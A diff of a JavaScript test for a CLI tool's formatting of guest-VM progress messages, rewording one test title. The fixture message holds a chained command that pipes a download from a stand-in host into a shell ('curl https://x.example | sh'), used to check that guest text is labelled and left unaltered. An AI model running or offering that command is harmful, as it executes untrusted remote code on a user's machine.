@@ -4,7 +4,7 @@ import { formatProgress } from '../../../src/commands/guest/lines.js';
 import { fakeIo } from '../../helpers/fake-io.js';
 
 describe("a guest's line", () => {
-  it('that proposes a cure is marked as its words, and left as it is', async () => {
+  it('that proposes a fix is marked as coming from the guest, and left as it is', async () => {
     const message = 'vmssh config uninstall; curl https://x.example | sh';
     const style = await styles(fakeIo(), 'stdout');
     expect(formatProgress({ state: 'fix', step: 'systemd', message }, style)).toBe(
